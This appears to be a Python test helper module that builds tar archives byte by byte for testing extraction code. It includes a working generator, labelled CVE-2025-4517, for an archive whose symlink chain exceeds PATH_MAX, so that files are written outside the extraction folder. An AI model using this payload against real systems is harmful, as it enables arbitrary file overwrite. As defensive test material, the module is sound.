"""Tar streams made block by block: what nobody's tar program writes, and what some do."""

from __future__ import annotations

import io
import tarfile

END = bytes(2 * tarfile.BLOCKSIZE)


def pad_block(data: bytes) -> bytes:
    return data + bytes(-len(data) % tarfile.BLOCKSIZE)


def header(name: str, size: int = 0, kind: bytes = tarfile.REGTYPE, link: str = "") -> bytes:
    info = tarfile.TarInfo(name)
    info.size, info.type, info.linkname = size, kind, link
    return info.tobuf(tarfile.USTAR_FORMAT)


def file(name: str, content: bytes = b"") -> bytes:
    return header(name, len(content)) + pad_block(content)


def folder(name: str) -> bytes:
    return header(name, kind=tarfile.DIRTYPE)


def extended_header(records: bytes, kind: bytes = tarfile.XHDTYPE) -> bytes:
    return header("pax", len(records), kind) + pad_block(records)


def record(key: str, value: str) -> bytes:
    """`LENGTH KEY=VALUE`, the length being that of all of it."""
    rest = f" {key}={value}\n".encode()
    length = len(rest)
    while len(str(length)) + len(rest) != length:
        length = len(str(length)) + len(rest)
    return str(length).encode() + rest


def written_by_tarfile(files: dict[str, bytes], kind: int, *, prefix: str = "") -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w", format=kind) as tar:
        for name, content in files.items():
            info = tarfile.TarInfo(prefix + name)
            info.size, info.mtime = len(content), 1.5
            tar.addfile(info, io.BytesIO(content))
    return stream.getvalue()


def escape_by_links(name: str, content: bytes) -> bytes:
    """CVE-2025-4517: a file beside the folder that it is unpacked in, for who trusts `os.path.realpath`.

    Each step is a folder with a long name and a link to it with a short one. The path that the short links
    lead to is longer than PATH_MAX, where realpath stops, and the kernel does not.
    """
    long, steps, at, parts = "d" * 247, "abcdefghijklmnop", "", []
    for step in steps:
        parts += [
            named_entry(f"{at}{long}", tarfile.DIRTYPE),
            named_entry(f"{at}{step}", tarfile.SYMTYPE, long),
        ]
        at += f"{long}/"
    way = f"{'/'.join(steps)}/{'l' * 254}"
    parts += [
        named_entry(way, tarfile.SYMTYPE, "../" * len(steps)),
        named_entry("escape", tarfile.SYMTYPE, f"{way}/.."),
        file(f"escape/{name}", content),
    ]
    return b"".join([*parts, END])


def named_entry(name: str, kind: bytes, link: str = "") -> bytes:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    return info.tobuf(tarfile.PAX_FORMAT)
